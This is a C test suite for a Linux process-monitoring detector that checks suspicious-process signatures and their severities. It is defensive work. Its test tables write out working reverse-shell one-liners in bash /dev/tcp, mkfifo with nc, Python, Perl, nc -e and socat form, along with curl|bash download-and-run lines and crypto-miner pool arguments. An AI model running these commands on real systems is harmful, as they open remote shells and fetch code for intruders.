/* SPDX-License-Identifier: MIT */
#include <stdio.h>

#include "detect/check.h"
#include "record/build.h"
#include "record/program.h"
#include "record/schema.h"
#include "suite.h"

/* Each check by itself, on what it reads: what it is for, and what looks like it. */
struct process {
	const char *name, *exe;
	const char *args[6];
	int uid, euid;
	int state; /* 0: 'S' */
	int dir_mode;
	double cpu, cpu_lifetime; /* 0: not known */
	bool deleted, kernel_thread, no_exe, wiped, replaced;
	int mode, owner, dir_owner; /* of the program; mode 0: not known */
	int64_t changed, start;	    /* s; 0: not known */
	const char *variable, *preload_file, *tracer, *container;
	int map; /* 0: none, else 1 + enum smi_map_kind */
	const char *map_line;
	int64_t map_bytes;
	int map_jit;
	const char *parent, *parent_exe;
	int parent_uid;
	int spaces; /* 0: not known, else 1 + bits */
	uint64_t caps;
	int peers; /* bits of descriptors 0, 1, 2 */
	const char *raw, *listening;
	bool io_uring;
};

static struct smi_arena arena;

static const struct smi_checks *const themes[] = {
	&smi_checks_args,     &smi_checks_hidden,    &smi_checks_exe,
	&smi_checks_identity, &smi_checks_privilege, &smi_checks_resource,
	&smi_checks_environ,  &smi_checks_memory,    &smi_checks_relation,
	&smi_checks_socket,
};

static const struct smi_check *check_of(const char *id)
{
	for (size_t i = 0; i < SMI_COUNT(themes); i++)
		for (size_t k = 0; k < themes[i]->n; k++)
			if (strcmp(themes[i]->v[k].id, id) == 0)
				return &themes[i]->v[k];
	ck_abort_msg("no check %s", id);
	return NULL;
}

static void set_args(sm_record *r, const struct process *p)
{
	size_t n = 0;

	while (n < SMI_COUNT(p->args) && p->args[n])
		n++;
	if (n > 0)
		smi_set_strs(&arena, r, SMI_PROC_ARGS, p->args, n);
}

static void set_real(sm_record *r, unsigned field, double v)
{
	if (v > 0)
		smi_set_real(r, field, v);
}

static void set_str(sm_record *r, unsigned field, const char *s)
{
	if (s)
		smi_set_const(r, field, s);
}

static void set_int(sm_record *r, unsigned field, bool known, int64_t v)
{
	if (known)
		smi_set_int(r, field, v);
}

static void set_map(sm_record *r, const struct process *p)
{
	const char **v = smi_arena_alloc(&arena, SMI_MAP_NKINDS * sizeof(*v));

	if (p->map == 0)
		return;
	for (int i = 0; i < SMI_MAP_NKINDS; i++)
		v[i] = i == p->map - 1 ? p->map_line : "";
	smi_set_strs(&arena, r, SMI_PROC_MAPS, v, SMI_MAP_NKINDS);
	smi_set_int(r, SMI_PROC_MAPS_BYTES, p->map_bytes);
	smi_set_int(r, SMI_PROC_MAPS_JIT, p->map_jit);
}

static void set_evidence(sm_record *r, const struct process *p)
{
	set_int(r, SMI_PROC_EXE_MODE, p->mode, p->mode);
	set_int(r, SMI_PROC_EXE_UID, p->mode, p->owner);
	set_int(r, SMI_PROC_EXE_DIR_UID, p->mode, p->dir_owner);
	set_int(r, SMI_PROC_EXE_REPLACED, p->replaced, 1);
	set_int(r, SMI_PROC_EXE_CTIME, p->changed, p->changed * SMI_SEC);
	set_int(r, SMI_PROC_START, p->start, p->start * SMI_SEC);
	if (p->variable)
		smi_set_strs(&arena, r, SMI_PROC_ENVIRON, &p->variable, 1);
	set_str(r, SMI_PROC_PRELOAD_FILE, p->preload_file);
	set_str(r, SMI_PROC_TRACER_NAME, p->tracer);
	set_int(r, SMI_PROC_TRACER_PID, p->tracer, 7);
	set_str(r, SMI_PROC_CONTAINER, p->container);
	set_map(r, p);
	set_str(r, SMI_PROC_PARENT_NAME, p->parent);
	set_str(r, SMI_PROC_PARENT_EXE, p->parent_exe);
	set_int(r, SMI_PROC_PARENT_UID, p->parent, p->parent_uid);
	set_int(r, SMI_PROC_OUR_SPACES, p->spaces, p->spaces - 1);
	set_int(r, SMI_PROC_CAP_EFF, p->caps, (int64_t)p->caps);
	set_int(r, SMI_PROC_STD_PEERS, p->peers, p->peers);
	set_str(r, SMI_PROC_STD_PEER, p->peers ? "a tcp b" : NULL);
	set_int(r, SMI_PROC_IO_URING, p->io_uring, 1);
	if (p->raw)
		smi_set_strs(&arena, r, SMI_PROC_RAW_SOCKETS, &p->raw, 1);
	if (p->listening)
		smi_set_strs(&arena, r, SMI_PROC_LISTENING, &p->listening, 1);
}

static sm_record *record_of(const struct process *p)
{
	sm_record *r = smi_rec_new(&arena, SM_KIND_PROCESS);

	smi_set_int(r, SMI_PROC_STATE_CODE, p->state ? p->state : 'S');
	smi_set_int(r, SMI_PROC_KERNEL_THREAD, p->kernel_thread);
	smi_set_const(r, SMI_PROC_NAME, p->name ? p->name : "x");
	if (!p->no_exe && !p->kernel_thread) {
		smi_set_const(r, SMI_PROC_EXE, p->exe ? p->exe : "/usr/bin/x");
		smi_set_int(r, SMI_PROC_EXE_NLINK, !p->deleted);
	}
	set_args(r, p);
	smi_set_int(r, SMI_PROC_UID, p->uid);
	smi_set_int(r, SMI_PROC_EUID, p->euid);
	smi_set_int(r, SMI_PROC_EXE_DIR_MODE, p->dir_mode);
	set_real(r, SMI_PROC_CPU_PERCENT, p->cpu);
	set_real(r, SMI_PROC_CPU_PERCENT_LIFETIME, p->cpu_lifetime);
	if (p->wiped)
		smi_set_int(r, SMI_PROC_ARGS_WIPED, 1);
	set_evidence(r, p);
	return r;
}

#define NONE	      0
#define INFO	      SM_SEV_INFO
#define LOW	      SM_SEV_LOW
#define MEDIUM	      SM_SEV_MEDIUM
#define HIGH	      SM_SEV_HIGH
#define DELETED(path) .exe = path " (deleted)", .deleted = true

static const struct row {
	const char *check;
	int severity; /* NONE: it is not found */
	struct process p;
} rows[] = {
	{ "exe-deleted", MEDIUM, { DELETED("/usr/bin/x") } },
	{ "exe-deleted", HIGH, { DELETED("/var/tmp/x") } },
	{ "exe-deleted", NONE, { DELETED("/memfd:x") } },
	{ "exe-deleted", NONE, { .exe = "/opt/x (deleted)" } },
	{ "exe-memfd", HIGH, { DELETED("/memfd:x") } },
	{ "exe-memfd", INFO, { DELETED("/memfd:runc_cloned:/proc/self/exe") } },
	/* Of a file in a directory that is called so. */
	{ "exe-memfd", NONE, { .exe = "/memfd:x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/run/user/1000/x" } },
	{ "exe-in-temp-dir", HIGH, { .exe = "/dev/shm/x" } },
	{ "exe-in-temp-dir", HIGH, { .exe = "/tmp/.X11-unix/x" } },
	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/build/.libs/x" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/.mount_GimpAB12/usr/gimp" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/_MEI4711/x" } },
	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/go-build1/b001/exe/x" } },
	{ "exe-in-temp-dir", NONE, { .exe = "/tmpfiles/x" } },
	{ "exe-in-temp-dir", NONE, { .exe = "/home/carl/tmp/x" } },
	{ "exe-hidden", MEDIUM, { .exe = "/usr/lib/.x/y" } },
	{ "exe-hidden", HIGH, { .exe = "/home/carl/.../y" } },
	{ "exe-hidden", HIGH, { .exe = "/usr/lib/.. /y" } },
	{ "exe-hidden", NONE, { .exe = "/home/carl/.cargo/bin/y" } },
	{ "exe-hidden", NONE, { .exe = "/opt/x.d/y" } },
	{ "exe-world-writable-dir", HIGH, { .dir_mode = 040777 } },
	{ "exe-world-writable-dir", NONE, { .dir_mode = 041777 } },
	{ "exe-world-writable-dir", NONE, { .dir_mode = 040775 } },
	{ "kernel-thread-name", HIGH, { .name = "kworker/0:1" } },
	{ "kernel-thread-name", HIGH, { .args = { "[kworker/u8:2]" } } },
	{ "kernel-thread-name",
	  HIGH,
	  { .name = "kdevtmpfsi", .no_exe = true, .args = { "./x" } } },
	{ "kernel-thread-name", MEDIUM, { .args = { "[httpd]" } } },
	{ "kernel-thread-name",
	  NONE,
	  { .name = "kworker/0:1", .kernel_thread = true } },
	/* A helper of the kernel before it runs its program. */
	{ "kernel-thread-name",
	  NONE,
	  { .name = "kworker/u4:3", .no_exe = true } },
	{ "kernel-thread-name", NONE, { .name = "kworker/0:1", .state = 'Z' } },
	{ "kernel-thread-name",
	  NONE,
	  { .name = "celery",
	    .args = { "[celeryd: a@b:MainProcess] -active- (worker)" } } },
	{ "kernel-thread-name",
	  NONE,
	  { .args = { "[celeryd: a@b:MainProcess]" } } },
	{ "kernel-thread-name", NONE, { .args = { "[", "-f", "x", "]" } } },
	{ "kernel-thread-name", NONE, { .name = "krfcommd-ui" } },
	{ "daemon-name",
	  HIGH,
	  { .exe = "/home/carl/x", .args = { "/usr/sbin/sshd", "-D" } } },
	{ "daemon-name",
	  HIGH,
	  { .exe = "/opt/x", .args = { "nginx: worker process" } } },
	{ "daemon-name",
	  HIGH,
	  { DELETED("/memfd:x"), .args = { "sshd: root [priv]" } } },
	{ "daemon-name",
	  MEDIUM,
	  { .exe = "/usr/bin/python3.11", .args = { "sshd" } } },
	{ "daemon-name",
	  HIGH,
	  { .name = "cron", .exe = "/srv/x", .args = { "./x" } } },
	{ "daemon-name",
	  NONE,
	  { .name = "sshd",
	    .exe = "/usr/sbin/sshd",
	    .args = { "sshd: root@pts/0" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/lib/openssh/sshd-session",
	    .args = { "sshd: carl [priv]" } } },
	{ "daemon-name",
	  NONE,
	  { .name = "systemd",
	    .exe = "/usr/lib/systemd/systemd",
	    .args = { "/sbin/init", "splash" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/bin/udevadm",
	    .args = { "/lib/systemd/systemd-udevd" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/sbin/mariadbd", .args = { "/usr/sbin/mysqld" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/lib/postgresql/15/bin/postgres",
	    .args = { "postgres: 15/main: checkpointer " } } },
	{ "daemon-name",
	  NONE,
	  { .name = "crond",
	    .exe = "/bin/busybox",
	    .args = { "crond", "-f" } } },
	/* A script of that name, and a shell at login. */
	{ "daemon-name",
	  NONE,
	  { .name = "cron",
	    .exe = "/usr/bin/dash",
	    .args = { "/bin/sh", "/etc/init.d/cron" } } },
	{ "daemon-name",
	  NONE,
	  { .exe = "/usr/bin/bash", .args = { "-bash" } } },
	{ "daemon-name", NONE, { .name = "sshd", .no_exe = true } },
	{ "args-wiped", MEDIUM, { .wiped = true } },
	{ "args-wiped", NONE, { .args = { "sshd: carl" } } },
	{ "args-wiped", NONE, { .wiped = true, .no_exe = true } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "-o", "stratum+tcp://192.0.2.1:3333", "-a",
		      "rx/0" } } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "-o", "stratum+ssl://192.0.2.1:443" },
	    .cpu = 350 } },
	{ "miner", HIGH, { .exe = "/opt/xmrig", .cpu_lifetime = 190 } },
	{ "miner",
	  HIGH,
	  { .args = { "x", "pool.minexmr.com:4444", "--donate-level=1" } } },
	{ "miner", NONE, { .cpu = 400 } },
	{ "miner",
	  NONE,
	  { .args = { "grep", "-r", "stratum+tcp://pool.minexmr.com:80" } } },
	{ "miner", NONE, { .exe = "/opt/xmrig", .cpu = 2 } },
	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/usr/bin/bash" } },
	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/home/carl/su" } },
	{ "setuid-root", LOW, { .uid = 1000, .exe = "/usr/bin/other" } },
	{ "setuid-root", NONE, { .uid = 1000, .exe = "/usr/bin/su" } },
	{ "setuid-root",
	  NONE,
	  { .uid = 1000,
	    .exe = "/usr/lib/dbus-1.0/"
		   "dbus-daemon-launch-"
		   "helper" } },
	{ "setuid-root",
	  NONE,
	  { .uid = 1000, .exe = "/opt/google/chrome/chrome-sandbox" } },
	{ "setuid-root", NONE, { .uid = 1000, .euid = 33 } },
	{ "setuid-root", NONE, { .exe = "/usr/bin/bash" } },
};

#define RUNS_AS(uid_)	.uid = (uid_), .euid = (uid_)
#define MAP(kind, line) .map = 1 + (kind), .map_line = (line)
#define ANONYMOUS	"7f00-7f10 rwxp"
#define CHILD_OF(name, uid_)                                                   \
	.parent = (name), .parent_exe = "/usr/sbin/" name, .parent_uid = (uid_)

static const struct row evidence[] = {
	{ "exe-deleted", LOW, { DELETED("/usr/bin/x"), .replaced = true } },
	{ "exe-deleted", HIGH, { DELETED("/tmp/x"), .replaced = true } },
	{ "exe-open-to-others", HIGH, { .mode = 0100777 } },
	{ "exe-open-to-others", MEDIUM, { .mode = 0100755, .owner = 1000 } },
	{ "exe-open-to-others", MEDIUM, { .mode = 0100755, .dir_owner = 33 } },
	{ "exe-open-to-others",
	  LOW,
	  { .mode = 0100755, .owner = 1000, RUNS_AS(1001) } },
	{ "exe-open-to-others", NONE, { .mode = 0100755, RUNS_AS(33) } },
	{ "exe-open-to-others",
	  NONE,
	  { .mode = 0100755,
	    .owner = 1000,
	    .dir_owner = 1000,
	    RUNS_AS(1000) } },
	{ "exe-open-to-others",
	  NONE,
	  { .mode = 0100755, .owner = 100000, .container = "c" } },
	{ "exe-open-to-others",
	  NONE,
	  { DELETED("/memfd:x"), .mode = 0100777 } },
	{ "exe-changed", LOW, { .changed = 103, .start = 100 } },
	{ "exe-changed", NONE, { .changed = 101, .start = 100 } },
	{ "exe-changed", NONE, { .changed = 90, .start = 100 } },
	{ "exe-changed",
	  NONE,
	  { DELETED("/usr/bin/x"), .changed = 103, .start = 100 } },
	{ "preload-variable", HIGH, { .variable = "LD_PRELOAD=/tmp/x.so" } },
	{ "preload-variable", HIGH, { .variable = "LD_PRELOAD=/lib/.x.so" } },
	{ "preload-variable", MEDIUM, { .variable = "LD_PRELOAD=x.so" } },
	{ "preload-variable", MEDIUM, { .variable = "LD_AUDIT=/opt/x.so" } },
	{ "preload-variable",
	  HIGH,
	  { .variable = "LD_PRELOAD=libjemalloc.so.2 /dev/shm/x.so" } },
	{ "preload-variable",
	  HIGH,
	  { .variable = "LD_PRELOAD=/tmp/libjemalloc.so.2" } },
	{ "preload-variable",
	  INFO,
	  { .variable =
		    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2" } },
	{ "preload-variable",
	  INFO,
	  { .variable = "LD_PRELOAD=/usr/libexec/coreutils/libstdbuf.so" } },
	{ "preload-variable", NONE, { .variable = "LD_PRELOAD=" } },
	{ "preload-variable", NONE, { .variable = "LD_LIBRARY_PATH=/tmp" } },
	{ "preload-variable", NONE, { .variable = NULL } },
	{ "library-path", MEDIUM, { .variable = "LD_LIBRARY_PATH=/a:/tmp" } },
	{ "library-path",
	  MEDIUM,
	  { .variable = "LD_LIBRARY_PATH=/dev/shm/l" } },
	{ "library-path", NONE, { .variable = "LD_LIBRARY_PATH=/opt/a:/b" } },
	{ "library-path",
	  NONE,
	  { .variable = "LD_LIBRARY_PATH=/tmp/.mount_GimpX/usr/lib" } },
	{ "preload-file", HIGH, { .preload_file = "/lib/libx.so\\x0a" } },
	{ "preload-file", INFO, { .preload_file = "/usr/lib/libjemalloc.so" } },
	{ "preload-file", NONE, { .preload_file = NULL } },
	{ "history-off",
	  LOW,
	  { .exe = "/bin/bash",
	    .args = { "-bash" },
	    .variable = "HISTFILE=/dev/null" } },
	{ "history-off",
	  LOW,
	  { .exe = "/bin/bash",
	    .args = { "bash", "-i" },
	    .variable = "HISTSIZE=0" } },
	{ "history-off",
	  NONE,
	  { .exe = "/bin/bash",
	    .args = { "bash", "-c", "make" },
	    .variable = "HISTSIZE=0" } },
	{ "history-off",
	  NONE,
	  { .exe = "/bin/bash",
	    .args = { "bash" },
	    .variable = "HISTSIZE=1000" } },
	{ "history-off",
	  NONE,
	  { .args = { "vim" }, .variable = "HISTFILE=/dev/null" } },
	{ "executable-memory",
	  MEDIUM,
	  { MAP(SMI_MAP_WRITABLE, ANONYMOUS), .map_bytes = 4096 } },
	{ "executable-memory",
	  MEDIUM,
	  { MAP(SMI_MAP_HEAP, "0-1 rwxp [heap]") } },
	{ "executable-memory",
	  LOW,
	  { MAP(SMI_MAP_STACK, "0-1 rwxp [stack]") } },
	{ "executable-memory", LOW, { MAP(SMI_MAP_ANONYMOUS, "0-1 r-xp") } },
	{ "executable-memory",
	  LOW,
	  { MAP(SMI_MAP_WRITABLE, ANONYMOUS), .map_bytes = 65536,
	    .map_jit = 1 } },
	{ "executable-memory",
	  MEDIUM,
	  { MAP(SMI_MAP_WRITABLE, ANONYMOUS), .map_bytes = 64 << 20,
	    .map_jit = 1 } },
	{ "executable-memory",
	  NONE,
	  { MAP(SMI_MAP_WRITABLE, ANONYMOUS), .map_bytes = 64 << 20,
	    .map_jit = 2 } },
	{ "executable-memory",
	  NONE,
	  { .exe = "/usr/bin/node", MAP(SMI_MAP_WRITABLE, ANONYMOUS) } },
	{ "executable-memory",
	  NONE,
	  { MAP(SMI_MAP_DELETED, "0-1 r-xp /lib/x.so (deleted)") } },
	{ "memfd-code", HIGH, { MAP(SMI_MAP_MEMFD, "0-1 r-xp /memfd:x") } },
	{ "memfd-code",
	  LOW,
	  { MAP(SMI_MAP_MEMFD, "0-1 r-xp /memfd:x"), .map_jit = 2 } },
	{ "memfd-code", NONE, { MAP(SMI_MAP_TEMP, "0-1 r-xp /tmp/x") } },
	{ "temp-library", HIGH, { MAP(SMI_MAP_TEMP, "0-1 r-xp /tmp/x.so") } },
	{ "temp-library",
	  LOW,
	  { MAP(SMI_MAP_TEMP, "0-1 r-xp /tmp/jna-1/jna2.tmp (deleted)"),
	    .map_jit = 2 } },
	{ "temp-library",
	  LOW,
	  { .exe = "/tmp/x", MAP(SMI_MAP_TEMP, "0-1 r-xp /tmp/x.so") } },
	{ "temp-library", NONE, { .map = 0 } },
	{ "deleted-library",
	  LOW,
	  { MAP(SMI_MAP_DELETED, "0-1 r-xp /lib/x.so (deleted)") } },
	{ "deleted-library", NONE, { MAP(SMI_MAP_TEMP, "0-1 r-xp /tmp/x") } },
	{ "traced", MEDIUM, { .tracer = "/opt/x" } },
	{ "traced", INFO, { .tracer = "/usr/bin/strace" } },
	{ "traced", INFO, { .tracer = "gdb" } },
	{ "traced", NONE, { .tracer = NULL } },
	{ "server-shell",
	  HIGH,
	  { .exe = "/bin/sh", .args = { "sh" }, CHILD_OF("nginx", 33) } },
	{ "server-shell",
	  HIGH,
	  { .exe = "/bin/bash",
	    .args = { "bash", "-i" },
	    CHILD_OF("postgres", 101) } },
	{ "server-shell",
	  MEDIUM,
	  { .exe = "/bin/sh",
	    .args = { "sh", "-c", "id" },
	    CHILD_OF("php-fpm8.2", 33) } },
	{ "server-shell",
	  LOW,
	  { .exe = "/bin/sh",
	    .args = { "sh", "-c", "gzip x" },
	    CHILD_OF("postgres", 101) } },
	{ "server-shell",
	  LOW,
	  { .exe = "/bin/sh",
	    .args = { "sh", "-c", "rotatelogs x" },
	    CHILD_OF("apache2", 0) } },
	{ "server-shell",
	  NONE,
	  { .exe = "/bin/sh", .args = { "sh" }, CHILD_OF("sshd", 0) } },
	{ "server-shell",
	  NONE,
	  { .exe = "/usr/sbin/nginx", CHILD_OF("nginx", 0) } },
	{ "root-below-service", HIGH, { CHILD_OF("nginx", 33) } },
	{ "root-below-service", HIGH, { CHILD_OF("x", 65534) } },
	{ "root-below-service", NONE, { CHILD_OF("x", 0) } },
	{ "root-below-service", NONE, { CHILD_OF("bash", 1000) } },
	{ "root-below-service",
	  NONE,
	  { .exe = "/usr/bin/sudo", CHILD_OF("nagios", 104) } },
	{ "root-below-service", NONE, { CHILD_OF("dbus-daemon", 102) } },
	{ "root-below-service", NONE, { RUNS_AS(33), CHILD_OF("x", 33) } },
	{ "container-escape",
	  MEDIUM,
	  { .container = "c", .spaces = 1 + SMI_SPACE_MNT } },
	{ "container-escape",
	  INFO,
	  { .container = "c", .spaces = 1 + SMI_SPACE_PID } },
	{ "container-escape",
	  NONE,
	  { .container = "c", .spaces = 1 + SMI_SPACE_USER } },
	{ "container-escape", NONE, { .container = "c" } },
	{ "container-escape",
	  NONE,
	  { .container = "c",
	    .exe = "/usr/sbin/runc",
	    .spaces = 1 + SMI_SPACE_MNT } },
	{ "container-escape", NONE, { .spaces = 1 + SMI_SPACE_MNT } },
	{ "root-capabilities",
	  HIGH,
	  { .exe = "/usr/bin/python3",
	    RUNS_AS(1000),
	    .caps = 1U << 7,
	    .spaces = 1 + SMI_SPACE_USER } },
	{ "root-capabilities",
	  MEDIUM,
	  { .exe = "/home/carl/x",
	    RUNS_AS(1000),
	    .caps = 1U << 13,
	    .spaces = 1 + SMI_SPACE_USER } },
	{ "root-capabilities",
	  INFO,
	  { .exe = "/usr/sbin/x",
	    RUNS_AS(100),
	    .caps = 1U << 21,
	    .spaces = 1 + SMI_SPACE_USER } },
	/* ping by its file, networkd by its service; a container's own root. */
	{ "root-capabilities",
	  NONE,
	  { .exe = "/usr/bin/ping",
	    RUNS_AS(1000),
	    .caps = 1U << 13,
	    .spaces = 1 + SMI_SPACE_USER } },
	{ "root-capabilities",
	  NONE,
	  { .exe = "/usr/lib/systemd/systemd-networkd",
	    RUNS_AS(998),
	    .caps = 1U << 12 | 1U << 13,
	    .spaces = 1 + SMI_SPACE_USER } },
	{ "root-capabilities",
	  NONE,
	  { .exe = "/home/carl/x", RUNS_AS(1000), .caps = ~0U, .spaces = 1 } },
	{ "root-capabilities",
	  NONE,
	  { .caps = ~0U, .spaces = 1 + SMI_SPACE_USER } },
	{ "remote-shell", HIGH, { .exe = "/bin/sh", .peers = 7 } },
	{ "remote-shell", HIGH, { .exe = "/usr/bin/python3", .peers = 3 } },
	{ "remote-shell",
	  LOW,
	  { .exe = "/usr/bin/python3", .peers = 3, CHILD_OF("systemd", 0) } },
	{ "remote-shell",
	  HIGH,
	  { .exe = "/bin/bash", .peers = 3, CHILD_OF("systemd", 0) } },
	{ "remote-shell", NONE, { .exe = "/bin/sh", .peers = 4 } },
	{ "remote-shell", NONE, { .exe = "/usr/sbin/sshd", .peers = 7 } },
	{ "raw-socket", HIGH, { .exe = "/opt/x", .raw = "packet" } },
	{ "raw-socket", HIGH, { DELETED("/usr/bin/x"), .raw = "packet" } },
	{ "raw-socket", MEDIUM, { .exe = "/usr/bin/perl", .raw = "raw" } },
	{ "raw-socket", LOW, { .exe = "/usr/sbin/x", .raw = "packet" } },
	{ "raw-socket", NONE, { .exe = "/usr/sbin/dhclient", .raw = "p" } },
	{ "raw-socket", NONE, { .exe = "/opt/suricata", .raw = "packet" } },
	{ "raw-socket", NONE, { .exe = "/opt/x", .listening = "tcp" } },
	{ "odd-listener", HIGH, { .exe = "/tmp/x", .listening = "tcp" } },
	{ "odd-listener", HIGH, { DELETED("/memfd:x"), .listening = "tcp" } },
	{ "odd-listener", HIGH, { DELETED("/opt/x"), .listening = "tcp" } },
	{ "odd-listener", MEDIUM, { .exe = "/bin/nc", .listening = "tcp" } },
	{ "odd-listener",
	  NONE,
	  { DELETED("/opt/x"), .replaced = true, .listening = "tcp" } },
	{ "odd-listener", NONE, { .exe = "/tmp/x" } },
	{ "odd-listener", NONE, { .exe = "/opt/x", .listening = "tcp" } },
	{ "io-uring", INFO, { .io_uring = true } },
	{ "io-uring", NONE, { .exe = "/usr/sbin/mariadbd", .io_uring = true } },
	{ "io-uring", NONE, { .peers = 3 } },
};

static void judge(const struct row *row)
{
	const struct smi_check *c = check_of(row->check);
	struct smi_verdict v = { .severity = c->severity };
	bool found = c->fn(record_of(&row->p), 0, &v);

	ck_assert_msg(found == (row->severity != NONE), "%s: %sfound", c->id,
		      found ? "" : "not ");
	if (found)
		ck_assert_msg(v.severity == row->severity,
			      "%s: found as %s, not %s", c->id,
			      sm_severity_name(v.severity),
			      sm_severity_name(row->severity));
}

START_TEST(a_check_finds_what_it_is_for_and_not_its_neighbour)
{
	judge(&rows[_i]);
}
END_TEST

START_TEST(a_check_weighs_evidence_that_only_it_reads)
{
	judge(&evidence[_i]);
}
END_TEST

/* Of a shell or an interpreter, behind -c. */
static const struct {
	const char *exe, *code;
	int severity;
} codes[] = {
	{ "/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", HIGH },
	{ "/bin/bash",
	  "exec 5<>/dev/tcp/192.0.2.1/1; cat <&5 | while read l; do $l; done",
	  HIGH },
	{ "/bin/sh",
	  "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
	  "nc 192.0.2.1 9 > /tmp/f",
	  HIGH },
	{ "/usr/bin/python3.11",
	  "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',1));"
	  "os.dup2(s.fileno(),0)",
	  HIGH },
	{ "/usr/bin/perl",
	  "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');"
	  "exec('sh')",
	  HIGH },
	{ "/bin/sh", "echo aWQK | base64 -d | sh", MEDIUM },
	{ "/bin/sh", "curl -s http://192.0.2.1/x | bash", LOW },
	{ "/bin/sh", "wget -qO- http://192.0.2.1/x |sh", LOW },
	{ "/usr/bin/python3", "import base64;exec(base64.b64decode('eA=='))",
	  MEDIUM },
	/* What tools and health checks send. */
	{ "/bin/sh", "make -j4 check", NONE },
	{ "/bin/sh", "set -e; cd /src && ./configure | tee log", NONE },
	{ "/bin/bash", "</dev/tcp/db/5432", NONE },
	{ "/bin/bash",
	  "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET / "
	  "HTTP/1.1\\r\\n' >&3; cat <&3 | grep -q UP",
	  NONE },
	{ "/bin/sh", "echo aGk= | base64 -d > greeting", NONE },
	{ "/bin/sh", "curl -s https://example.org/x | jq .", NONE },
	{ "/bin/sh", "curl -s https://example.org/x | shasum", NONE },
	{ "/usr/bin/python3", "import socket; print(socket.gethostname())",
	  NONE },
	{ "/usr/bin/less", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", NONE },
};

START_TEST(code_among_arguments_is_told_by_what_it_is_for)
{
	const struct row row = {
		"inline-payload",
		codes[_i].severity,
		{ .exe = codes[_i].exe, .args = { "x", "-c", codes[_i].code } },
	};

	judge(&row);
}
END_TEST

static const struct {
	const char *args[4];
	int severity;
} joined[] = {
	{ { "nc", "-e", "/bin/sh", "192.0.2.1" }, HIGH },
	{ { "socat", "TCP:192.0.2.1:443", "EXEC:/bin/bash,pty" }, HIGH },
	{ { "nc", "-l", "-p", "9" }, NONE },
	{ { "socat", "TCP-LISTEN:80,fork", "UNIX:/run/web" }, NONE },
};

START_TEST(a_tool_for_connections_is_told_when_it_joins_a_shell)
{
	struct row row = { "inline-payload",
			   joined[_i].severity,
			   { .exe = "/usr/bin/nc.openbsd" } };

	memcpy(row.p.args, joined[_i].args, sizeof(joined[_i].args));
	judge(&row);
}
END_TEST

static const struct {
	const char *path;
	unsigned with, without;
} programs[] = {
	{ "/usr/bin/python3.11", SMI_PROGRAM_SCRIPTS, SMI_PROGRAM_SHELL },
	{ "/bin/bash", SMI_PROGRAM_SHELL | SMI_PROGRAM_SCRIPTS, 0 },
	{ "/bin/dash (deleted)", SMI_PROGRAM_SHELL, 0 },
	{ "sh", SMI_PROGRAM_SHELL, 0 },
	{ "/usr/sbin/php-fpm8.2", SMI_PROGRAM_WEB, SMI_PROGRAM_SCRIPTS },
	{ "nc.openbsd", SMI_PROGRAM_NETCAT, 0 },
	{ "/usr/bin/qemu-system-x86_64", SMI_PROGRAM_JIT, 0 },
	{ "/bin/bashful", 0, SMI_PROGRAM_SHELL },
	{ "/bin/bash/x", 0, SMI_PROGRAM_SHELL },
	{ "123", 0, ~0U },
	{ "", 0, ~0U },
};

START_TEST(a_program_is_classed_by_the_name_of_its_file)
{
	unsigned class = smi_program_class(smi_span_str(programs[_i].path));

	ck_assert_uint_eq(class & programs[_i].with, programs[_i].with);
	ck_assert_uint_eq(class & programs[_i].without, 0);
}
END_TEST

/* Also those that nothing here makes happen. */
START_TEST(every_check_has_all_that_a_finding_tells)
{
	for (size_t i = 0; i < SMI_COUNT(themes); i++) {
		for (size_t k = 0; k < themes[i]->n; k++) {
			const struct smi_check *c = &themes[i]->v[k];

			ck_assert(c->title[0] && c->why[0] && c->next_step[0]);
			ck_assert_uint_gt(c->nattack, 0);
			ck_assert_uint_gt(c->nfields, 0);
			ck_assert_ptr_nonnull(c->kind);
		}
	}
}
END_TEST

START_TEST(the_manual_names_each_check_with_its_severity)
{
	static char text[1 << 16];
	const char *srcdir = getenv("srcdir");
	char path[4096], wanted[128];
	FILE *f;

	snprintf(path, sizeof(path), "%s/man/sysmon-checks.7",
		 srcdir ? srcdir : ".");
	f = fopen(path, "r");
	ck_assert_ptr_nonnull(f);
	text[fread(text, 1, sizeof(text) - 1, f)] = '\0';
	fclose(f);
	for (size_t i = 0; i < SMI_COUNT(themes); i++) {
		for (size_t k = 0; k < themes[i]->n; k++) {
			const struct smi_check *c = &themes[i]->v[k];

			snprintf(wanted, sizeof(wanted), ".It Cm %s Pq %s ;",
				 c->id, sm_severity_name(c->severity));
			ck_assert_msg(strstr(text, wanted) != NULL, "no \"%s\"",
				      wanted);
		}
	}
}
END_TEST

static void teardown(void)
{
	smi_arena_free(&arena);
}

int main(void)
{
	Suite *s = suite_create("checks");
	TCase *tc = tcase_create("checks");

	tcase_add_checked_fixture(tc, NULL, teardown);
	tcase_add_loop_test(tc,
			    a_check_finds_what_it_is_for_and_not_its_neighbour,
			    0, SMI_COUNT(rows));
	tcase_add_loop_test(tc, a_check_weighs_evidence_that_only_it_reads, 0,
			    SMI_COUNT(evidence));
	tcase_add_loop_test(tc, code_among_arguments_is_told_by_what_it_is_for,
			    0, SMI_COUNT(codes));
	tcase_add_loop_test(
		tc, a_tool_for_connections_is_told_when_it_joins_a_shell, 0,
		SMI_COUNT(joined));
	tcase_add_loop_test(tc, a_program_is_classed_by_the_name_of_its_file, 0,
			    SMI_COUNT(programs));
